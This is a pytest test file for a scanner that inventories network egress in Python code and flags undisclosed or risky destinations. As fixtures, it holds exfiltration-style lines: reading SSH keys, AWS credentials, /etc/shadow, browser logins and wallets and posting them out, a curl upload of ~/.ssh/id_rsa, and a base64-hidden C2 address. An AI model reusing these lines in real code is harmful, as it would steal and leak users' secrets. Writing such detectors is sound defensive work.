"""The egress inventory (`datasec-scan egress`), the allow-list matching, and the DS3xx analyzer's pieces."""

from __future__ import annotations

import json
import textwrap
from pathlib import Path

import pytest
from click.testing import CliRunner

from datasec_scan.cli import main
from datasec_scan.egress import (
    collect_file,
    host_allowed,
    inventory,
    is_test_file,
    render_text,
    to_json,
)

REPO = Path(__file__).resolve().parent.parent
PROJECT = REPO / "fixtures" / "undisclosed_egress"


@pytest.mark.parametrize(("host", "allow", "expected"), [
    ("api.example.com", ["api.example.com"], True),
    ("API.Example.com.", ["api.example.com"], True),
    ("api.example.com", ["example.com"], False),
    ("o1.ingest.example.org", ["*.example.org"], True),
    ("a.b.example.org", ["*.example.org"], True),
    ("example.org", ["*.example.org"], False),
    ("evil-example.org", ["*.example.org"], False),
    ("10.1.2.3", ["10.0.0.0/8"], True),
    ("192.168.1.1", ["10.0.0.0/8"], False),
    ("203.0.113.5", ["203.0.113.5"], True),
    ("2001:db8::1", ["2001:db8::/32"], True),
    ("10.1.2.3", ["*.example.org", "example.com"], False),
])
def test_host_allowed(host: str, allow: list[str], expected: bool) -> None:
    assert host_allowed(host, allow) is expected


def _points(code: str, allow: tuple[str, ...] = ()):
    points, notes = collect_file("app.py", textwrap.dedent(code).encode(), allow)
    assert notes == []
    return points


def test_collect_file_destinations_libraries_and_sources() -> None:
    points = _points("""
        import os, socket, requests, urllib.request, smtplib
        API = "https://api.example.com/v1"

        def report(url):
            requests.post(url, json={"env": dict(os.environ)})

        requests.get(API + "/status")
        urllib.request.urlopen(f"https://updates.example.net:8443/{os.getenv('CHANNEL')}")
        s = socket.create_connection(("203.0.113.5", 4444))
        s.sendall(socket.gethostname().encode())
        smtplib.SMTP("smtp.example.net").sendmail("a", ["b"], "hello")
        report(os.environ["REPORT_URL"])
        """)
    by_line = {p.line: p for p in points}
    assert by_line[6].destination == "dynamic (depends on $REPORT_URL)" and by_line[6].sources == ("environment",)
    assert (by_line[8].host, by_line[8].scheme, by_line[8].library) == ("api.example.com", "https", "requests")
    assert (by_line[9].host, by_line[9].port) == ("updates.example.net", 8443)
    assert (by_line[10].host, by_line[10].port, by_line[10].risk) == ("203.0.113.5", 4444, "raw-ip")
    assert by_line[11].host == "203.0.113.5" and by_line[11].sources == ("host-info",)
    assert {p.host for p in points if p.line == 12} == {"smtp.example.net"}


def test_allow_marks_points() -> None:
    points = _points("import requests\nrequests.get('https://a.example.com')\nrequests.get('https://b.example.net')\n",
                     ("*.example.com",))
    assert [(p.host, p.allowed) for p in points] == [("a.example.com", True), ("b.example.net", False)]


def test_files_without_network_words_are_not_parsed() -> None:
    assert collect_file("x.py", b"print('hello')\n") == ([], [])
    assert collect_file("notes.txt", b"requests.get('https://example.com')\n") == ([], [])


def test_unparsable_file_is_a_note_not_a_crash() -> None:
    points, notes = collect_file("bad.py", b"import requests\ndef (:\n")
    assert points == [] and notes and "cannot parse" in notes[0]


@pytest.mark.parametrize(("path", "expected"), [
    ("pkg/tests/test_x.py", True), ("tests/helpers.py", True), ("pkg/conftest.py", True),
    ("pkg/x_test.py", True), ("pkg/client.py", False), ("pkg/testament.py", False),
    ("a-1.0.tar.gz!/a-1.0/tests/t.py", True),
])
def test_is_test_file(path: str, expected: bool) -> None:
    assert is_test_file(path) is expected


def test_inventory_groups_and_renders(tmp_path: Path) -> None:
    (tmp_path / "a.py").write_text("import requests\nrequests.get('https://api.example.com/x')\n"
                                   "requests.post('https://api.example.com/y')\n")
    (tmp_path / "b.py").write_text("import requests, os\nrequests.get(os.environ['U'])\n")
    tests = tmp_path / "tests"
    tests.mkdir()
    (tests / "test_a.py").write_text("import requests\nrequests.get('https://test.example.org')\n")
    inv = inventory([tmp_path], tmp_path, ("api.example.com",), jobs=1)
    assert [k for k, _ in inv.groups()] == ["api.example.com", "dynamic"]
    text = render_text(inv)
    assert "api.example.com" in text and "dynamic (depends on $U)" in text and "test.example.org" not in text
    doc = json.loads(to_json(inv))
    assert doc["summary"][0] == {"destination": "api.example.com", "calls": 2, "kinds": ["http"], "sources": [],
                                 "allowed": True, "risk": None}
    assert to_json(inv) == to_json(inventory([tmp_path], tmp_path, ("api.example.com",), jobs=1))  # deterministic
    with_tests = inventory([tmp_path], tmp_path, jobs=1, include_tests=True)
    assert "test.example.org" in {p.host for p in with_tests.points}


def test_cli_check_exits_1_outside_allow(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(PROJECT)
    result = CliRunner().invoke(main, ["egress", ".", "--check"])
    assert result.exit_code == 1, result.output
    assert "metrics.example.net  [NOT IN ALLOW]" in result.output
    assert "destinations outside the allow list" in result.output


def test_cli_check_passes_when_everything_is_disclosed(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(PROJECT)
    extra = ["--allow", "metrics.example.net", "--allow", "updates.example.net", "--allow", "ingest.example.org",
             "--allow", "192.168.0.0/16"]
    result = CliRunner().invoke(main, ["egress", ".", "--check", *extra])
    assert result.exit_code == 0, result.output


def test_cli_json_and_html(tmp_path: Path) -> None:
    (tmp_path / "a.py").write_text("import requests\nrequests.get('https://api.example.com/<b>')\n")
    out = CliRunner().invoke(main, ["egress", str(tmp_path), "--isolated", "--format", "json"])
    assert out.exit_code == 0, out.output
    assert json.loads(out.output)["points"][0]["host"] == "api.example.com"
    page = tmp_path / "egress.html"
    out = CliRunner().invoke(main, ["egress", str(tmp_path), "--isolated", "--format", "html", "-o", str(page)])
    assert out.exit_code == 0, out.output
    html = page.read_text()
    assert "api.example.com" in html and "Egress" in html


def test_cli_check_without_allow_fails_on_static_destinations(tmp_path: Path) -> None:
    (tmp_path / "a.py").write_text("import requests\nrequests.get('https://api.example.com/x')\n")
    result = CliRunner().invoke(main, ["egress", str(tmp_path), "--isolated", "--check"])
    assert result.exit_code == 1
    (tmp_path / "a.py").write_text("import requests, os\nrequests.get(os.environ['URL'])\n")
    assert CliRunner().invoke(main, ["egress", str(tmp_path), "--isolated", "--check"]).exit_code == 0


@pytest.mark.parametrize(("host", "path", "expected"), [
    ("203.0.113.5", None, "raw-ip"), ("198.51.100.1", None, "raw-ip"), ("93.184.216.34", None, "raw-ip"),
    ("10.0.0.1", None, None), ("127.0.0.1", None, None), ("169.254.169.254", None, None), ("8.8.8.8", None, None),
    ("::1", None, None), ("discord.com", "/api/webhooks/1/x", "webhook"), ("discord.com", "/api/v10/users", None),
    ("discord.com", None, None), ("hooks.slack.com", "/services/x", "webhook"), ("api.telegram.org", "/bot1:x/s", "webhook"),
    ("pastebin.com", "/raw/x", "paste"), ("webhook.site", "/x", "request-catcher"), ("x.oast.fun", None, "request-catcher"),
    ("abc.ngrok-free.app", None, "tunnel"), ("a.trycloudflare.com", None, "tunnel"), ("me.duckdns.org", None, "dynamic-dns"),
    ("api.example.com", None, None), (None, None, None),
])
def test_host_risk(host, path, expected) -> None:
    from datasec_rules._outbound import host_risk

    assert host_risk(host, path) == expected


@pytest.mark.parametrize(("var", "host", "expected"), [
    ("GITHUB_TOKEN", "api.github.com", True), ("GH_TOKEN", "uploads.github.com", True),
    ("GITHUB_TOKEN", "example.org", False), ("OPENAI_API_KEY", "api.openai.com", True),
    ("ACME_API_KEY", "api.acme.example", True), ("AWS_SECRET_ACCESS_KEY", "s3.us-east-1.amazonaws.com", True),
    ("AWS_SECRET_ACCESS_KEY", "203.0.113.5", False), ("API_KEY", "api.example.com", True),
    ("MY_TOKEN", "example.com", False),
])
def test_provider_hosts_match(var: str, host: str, expected: bool) -> None:
    from datasec_rules._outbound import provider_hosts_match

    assert provider_hosts_match(var, host) is expected


@pytest.mark.parametrize(("name", "secret"), [
    ("GITHUB_TOKEN", True), ("AWS_REGION", True), ("DB_PASSWORD", True), ("API_KEY", True), ("SENTRY_DSN", True),
    ("GIT_AUTHOR_NAME", False), ("GITHUB_SHA", False), ("HOME", False), ("SSL_KEY_FILE", False),
    ("TOKEN_URL", False), ("PYTHONPATH", False),
])
def test_secret_variable_names(name: str, secret: bool) -> None:
    from datasec_rules._outbound import is_secret_var

    assert is_secret_var(name) is secret


@pytest.mark.parametrize(("code", "label"), [
    ("open(os.path.expanduser('~/.ssh/id_rsa'))", "credential-file"),
    ("(Path.home() / '.aws' / 'credentials').read_text()", "credential-file"),
    ("open(os.path.join(os.environ['HOME'], '.netrc'))", "credential-file"),
    ("open(f\"{os.getenv('USERPROFILE')}\\\\.docker\\\\config.json\")", "credential-file"),
    ("open(os.getenv('LOCALAPPDATA') + '\\\\Google\\\\Chrome\\\\User Data\\\\Default\\\\Login Data', 'rb')",
     "browser-store"),
    ("open('/etc/shadow')", "system-accounts"),
    ("open(os.path.join(home, '.bitcoin', 'wallet.dat'), 'rb')", "wallet"),
])
def test_sensitive_paths_are_sources(code: str, label: str) -> None:
    source = f"import os\nfrom pathlib import Path\nimport requests\nhome = '~'\nrequests.post('https://example.net', data={code})\n"
    points = _points(source)
    assert [p.sources for p in points] == [(label,)]


@pytest.mark.parametrize("code", ["open('README.md')", "open(os.path.join(base, 'history.txt'))",
                                  "'see ~/.ssh/config for details'", "open(os.environ['CONFIG_FILE'])"])
def test_ordinary_paths_are_not_sensitive(code: str) -> None:
    source = f"import os\nimport requests\nbase = 'docs'\nrequests.post('https://example.net', data={code})\n"
    assert all(not (set(p.sources) - {"env:CONFIG_FILE"}) for p in _points(source))


@pytest.mark.parametrize(("code", "label"), [
    ("subprocess.check_output('wmic csproduct get uuid', shell=True)", "host-info"),
    ("subprocess.check_output(['whoami']).decode()", "host-info"),
    ("subprocess.getoutput('printenv')", "environment"),
    ("os.popen('cat ~/.aws/credentials').read()", "credential-file"),
    ("subprocess.check_output(['cat', os.path.expanduser('~/.netrc')])", "credential-file"),
    ("browser_cookie3.chrome()", "browser-store:api"),
    ("netrc.netrc().authenticators('example.org')", "credential-file:api"),
    ("{k: os.environ.get(k) for k in KEYS}", "env-secret:GITHUB_TOKEN"),
])
def test_command_outputs_and_credential_apis_are_sources(code: str, label: str) -> None:
    source = (f"import os, subprocess, netrc, browser_cookie3\nimport requests\nKEYS = ('CI', 'GITHUB_TOKEN')\n"
              f"requests.post('https://example.net', data={code})\n")
    assert [p.sources for p in _points(source)] == [(label,)]


@pytest.mark.parametrize(("destination", "expected"), [
    ("self.host", "medium"),  # a client logging in to the host it looked the credential up for
    ("'https://collector.example.net/c'", "critical"),  # a literal endpoint of its own
    ("'https://discord.com/api/webhooks/1/x'", "critical"),  # a chat webhook
])
def test_credentials_looked_up_by_api_for_a_given_host(destination: str, expected: str) -> None:
    from datasec_scan.config import Config
    from datasec_scan.engine import scan_file
    from datasec_scan.plugins import discover
    source = textwrap.dedent(f"""
        import netrc, requests

        class Client:
            def __init__(self, host):
                self.host = host

            def login(self, user, password):
                requests.post({destination}, data={{"user": user, "password": password}})

        def main(host):
            user, _, password = netrc.netrc().authenticators(host)
            Client(host).login(user, password)
        """)
    pack = discover().select(["DS301"])
    found = [f.severity.label for f in scan_file("client.py", source.encode(), pack, Config()).findings]
    assert found == [expected]


@pytest.mark.parametrize("code", ["subprocess.check_output(['git', 'rev-parse', 'HEAD'])",
                                  "subprocess.getoutput('date')", "{k: os.environ.get(k) for k in ('CI', 'TERM')}"])
def test_ordinary_command_outputs_are_not_sensitive(code: str) -> None:
    source = f"import os, subprocess\nimport requests\nrequests.post('https://example.net', data={code})\n"
    assert all(not [s for s in p.sources if not s.startswith("env:")] for p in _points(source))


def test_destination_hidden_in_an_encoded_literal() -> None:
    points = _points("import base64, requests\nC2 = base64.b64decode('aHR0cDovLzIwMy4wLjExMy45OS9j').decode()\n"
                     "requests.post(C2, data='x')\n")
    assert [(p.host, p.risk) for p in points] == [("203.0.113.99", "raw-ip")]


@pytest.mark.parametrize(("code", "sources"), [
    ("subprocess.run(['ssh', '-i', os.path.expanduser('~/.ssh/id_rsa'), 'u@example.net', 'uptime'])", ()),
    ("os.system(\"rsync -e 'ssh -i ~/.ssh/id_rsa' -a dist/ u@example.net:/srv/\")", ()),
    ("os.system('curl -F f=@$HOME/.ssh/id_rsa https://example.net/u')", ("credential-file",)),
    ("subprocess.run(['scp', os.path.expanduser('~/.ssh/id_rsa'), 'u@example.net:/k'])", ("credential-file",)),
])
def test_identity_files_of_network_tools_are_not_data(code: str, sources: tuple[str, ...]) -> None:
    points = _points(f"import os, subprocess\n{code}\n")
    assert [p.sources for p in points] == [sources]


@pytest.mark.parametrize("code", ["subprocess.check_output(['env', 'LC_ALL=C', 'git', 'log'])",
                                  "subprocess.getoutput('printenv HOME')",
                                  "subprocess.check_output(['security', 'list-keychains'])"])
def test_launchers_and_harmless_subcommands_are_not_sources(code: str) -> None:
    source = f"import subprocess\nimport requests\nrequests.post('https://example.net', data={code})\n"
    assert [p.sources for p in _points(source)] == [()]


@pytest.mark.parametrize("code", ["{k: os.environ[k] for k in os.environ}", "[os.getenv(k) for k in os.environ.keys()]"])
def test_lookups_over_every_variable_are_the_whole_environment(code: str) -> None:
    source = f"import os\nimport requests\nrequests.post('https://example.net', data={code})\n"
    assert [p.sources for p in _points(source)] == [("environment",)]
